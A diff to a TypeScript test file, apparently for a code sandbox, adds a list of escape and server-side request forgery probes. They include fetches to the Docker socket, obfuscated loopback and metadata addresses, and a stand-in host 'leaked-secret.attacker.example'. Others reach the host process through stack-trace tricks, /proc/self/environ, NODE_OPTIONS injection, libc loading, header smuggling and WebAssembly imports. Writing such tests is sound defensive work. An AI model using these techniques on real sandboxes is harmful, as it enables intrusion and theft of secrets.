@@ -106,6 +106,47 @@ const ATTEMPTS: [string, string][] = [
   ['the clock of the host', `return globalThis.startRun(0, ''), 'started';`],
   ['a signal', `return process.kill(process.ppid);`],
   ['a fork', `return process.binding('spawn_sync');`],
+  ...[
+    ...['unix:///var/run/docker.sock', 'http://unix:/var/run/docker.sock:/info', 'http://[::ffff:127.0.0.1]:22/'],
+    ...['http://[64:ff9b::7f00:1]:22/', 'http://127.0.0.1.:22/', 'http://0/', 'http://①②⑦.0.0.1:22/', '//example.org/'],
+    ...['http://127.0.0.1:1\\\\@example.org/', 'HTTPS://EXAMPLE.ORG', 'http://leaked-secret.attacker.example/'],
+  ].map((url): [string, string] => [`fetch ${url}`, `return (await fetch('${url}')).status;`]),
+  ['a worker', `return typeof new Worker('data:text/javascript,0');`],
+  ['a thread', `return typeof new (require('worker_threads').Worker)('0', { eval: true });`],
+  ['a module from a data: URL', `return typeof (await import('data:text/javascript,export default process')).default;`],
+  ['a module from a file', `return typeof (await import('/proc/self/environ'));`],
+  ['a descriptor', `return typeof require('/proc/self/fd/0');`],
+  ['the inspector', `return typeof require('inspector').url();`],
+  ['a preloaded module', `process.env.NODE_OPTIONS = '--require=/tmp/x.js'; return 1;`],
+  ['a native library', `return typeof process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6');`],
+  ['another realm', `return typeof new ShadowRealm().evaluate('process');`],
+  [
+    'functions on the stack',
+    `Error.prepareStackTrace = (_, frames) => frames.map((f) => f.getFunction());
+    return typeof new Error().stack.find(Boolean).constructor('return process')();`,
+  ],
+  [
+    'what the stack was called on',
+    `Error.prepareStackTrace = (_, frames) => frames.map((f) => f.getThis());
+    return typeof new Error().stack.find((each) => each && each.process).process;`,
+  ],
+  ['a result that is a promise of its own', `return { then(done) { done(typeof process.pid); } };`],
+  ['a result that writes itself', `return { toJSON: () => String(process.pid) };`],
+  [
+    'an address that changes',
+    `let n = 0; return (await fetch({ toString: () => (n++ ? 'https://example.org/' : '/') })).status;`,
+  ],
+  ['a tunnel', `return (await fetch('/', { method: 'CONNECT' })).status;`],
+  ['a header within a header', `return (await fetch('/', { headers: { 'x': 'a\\r\\nHost: example.org' } })).status;`],
+  [
+    'a client of its own',
+    `return typeof (await new medplum.constructor({ baseUrl: 'http://169.254.169.254/' }).get('latest'));`,
+  ],
+  [
+    'code of WebAssembly with imports of the host',
+    `const module = new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0,
+    2, 8, 1, 3, 101, 110, 118, 1, 102, 0, 0])); return typeof new WebAssembly.Instance(module, { env: { f: process.exit } });`,
+  ],
 ];
 
 function escaped(text: string): string {
